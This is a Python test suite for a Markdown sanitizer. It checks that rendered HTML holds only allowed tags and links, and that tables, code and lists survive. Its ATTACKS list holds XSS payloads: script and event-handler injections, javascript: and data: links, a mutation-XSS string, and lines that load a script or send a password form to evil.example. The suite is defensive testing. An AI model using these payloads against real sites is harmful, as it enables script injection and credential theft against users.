"""Markdown: what authors write comes out as clean HTML, and what attackers write as text."""

import re
from html.parser import HTMLParser
from uuid import UUID

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from questions import markdown
from questions.markdown import PICTURE, to_html, to_inline_html

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<a href="https://example.com" onclick="alert(1)">x</a>',
    '<div style="position:fixed;inset:0">x</div>',
    "<style>body{display:none}</style>",
    "<iframe src=https://evil.example></iframe>",
    "<form action=https://evil.example><input name=password></form>",
    "<base href=https://evil.example>",
    "<math><mtext></mtext><mglyph><style><!--</style><img title='--><img src onerror=alert(1)>'>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "[x](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](https://evil.example/pixel.png)",
    '[x](https://example.com "a\\" onmouseover=alert(1) b=\\"")',
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "| a |\n|---|\n| <script>alert(1)</script> |",
]
ALLOWED = {
    *("a", "blockquote", "br", "code", "em", "h3", "h4", "hr", "li", "ol", "p", "pre", "strong"),
    *("table", "tbody", "td", "th", "thead", "tr", "ul", "img"),
}


class Tags(HTMLParser):
    """Gathers the tags and attributes that a browser would see."""

    def __init__(self, html):
        super().__init__()
        self.found = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


def assert_clean(html):
    for tag, attributes in Tags(html).found:
        assert tag in ALLOWED
        kept = {"alt", "src"} if tag == "img" else {"href", "title", "rel", "start"}
        assert set(attributes) <= kept
        # Of pictures only the bank's own are loaded.
        assert PICTURE.fullmatch(attributes.get("src", f"/images/{UUID(int=1)}"))
        address = attributes.get("href", "")
        scheme = re.match(r"[\s\x00-\x20]*([a-z][a-z0-9+.-]*):", address, re.IGNORECASE)
        assert scheme is None or scheme[1] in ("http", "https")


@pytest.mark.parametrize("render", [to_html, to_inline_html])
@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_runs_or_loads_gets_through(render, attack):
    assert_clean(render(attack))
    assert_clean(render(f"Some text {attack} and *more*."))


@settings(max_examples=150, deadline=None)
@given(
    st.lists(
        st.sampled_from([*ATTACKS, "**", "`", "[", "](", ")", "<", ">", '"', "\n", "&", "| a |"]),
        max_size=6,
    ).map("".join)
)
def test_no_mixture_of_attacks_gets_through(text):
    assert_clean(to_html(text))
    assert_clean(to_inline_html(text))


@settings(max_examples=100, deadline=None)
@given(st.text(st.characters(max_codepoint=127)) | st.text(" \n\t\x0b\x1c.,;:?!()/%'-x1"))
def test_a_plain_line_is_what_the_parser_makes_of_it(text):
    plain = to_inline_html(text)
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(markdown, "_PLAIN", re.compile("(?!)"))
        assert plain == to_inline_html(text)


@pytest.mark.parametrize("render", [to_html, to_inline_html])
def test_markup_that_is_not_ours_is_shown_as_text(render):
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in render("Say <script>alert(1)</script>.")


def test_a_script_in_code_is_shown_as_it_is_written():
    assert to_html("`<script>`") == "<p><code>&lt;script&gt;</code></p>"


def test_a_link_keeps_its_address_and_tells_nobody_where_it_came_from():
    html = to_html("[Guide](https://example.com/a?b=1&c=2 'The guide')")
    assert 'href="https://example.com/a?b=1&amp;c=2"' in html
    assert 'rel="noopener"' in html
    assert 'title="The guide"' in html


def test_a_dangerous_link_keeps_its_words_alone():
    html = to_html("[read this](javascript:alert(1))")
    assert "read this" in html
    assert Tags(html).found == [("p", {})]


def test_tables_are_kept():
    html = to_html("| Metric | Use |\n|---|---|\n| MAE | errors |\n| F1 | **balance** |")
    assert [tag for tag, _ in Tags(html).found] == [
        *("table", "thead", "tr", "th", "th", "tbody", "tr", "td", "td", "tr", "td", "td"),
        "strong",
    ]
    assert "<td>errors</td>" in html


def test_code_is_kept_with_its_lines():
    html = to_html('```json\n{\n  "a": 1\n}\n```')
    assert '<pre><code>{\n  "a": 1\n}\n</code></pre>' in html
    assert to_html("Set `temperature` to 0.") == "<p>Set <code>temperature</code> to 0.</p>"


def test_lists_headings_and_quotes_are_kept():
    html = to_html("### Part\n\n3. three\n4. four\n\n- a\n- b\n\n> said")
    tags = Tags(html).found
    assert ("ol", {"start": "3"}) in tags
    assert [tag for tag, _ in tags].count("li") == 4
    assert {"h3", "ul", "blockquote"} <= {tag for tag, _ in tags}


def test_a_page_s_own_headings_cannot_be_made_in_a_note():
    """h1 and h2 are the page's; the words stay."""
    html = to_html("# Big\n\n## Less big")
    assert Tags(html).found == []
    assert "Big" in html
    assert "Less big" in html


def test_a_line_has_no_paragraph_around_it_and_no_blocks():
    assert to_inline_html("A *short*\n  **line** of `code`") == (
        "A <em>short</em> <strong>line</strong> of <code>code</code>"
    )
    assert to_inline_html("# not a heading") == "# not a heading"


@settings(max_examples=100, deadline=None)
@given(st.text(max_size=80))
def test_any_text_is_rendered(text):
    assert_clean(to_html(text))
    assert_clean(to_inline_html(text))


def test_an_empty_corner_of_a_table_is_no_heading():
    html = to_html("| | A |\n|---|---|\n| b | c |")
    assert "<td></td>" in html
    assert "<th></th>" not in html
    assert "<th>A</th>" in html
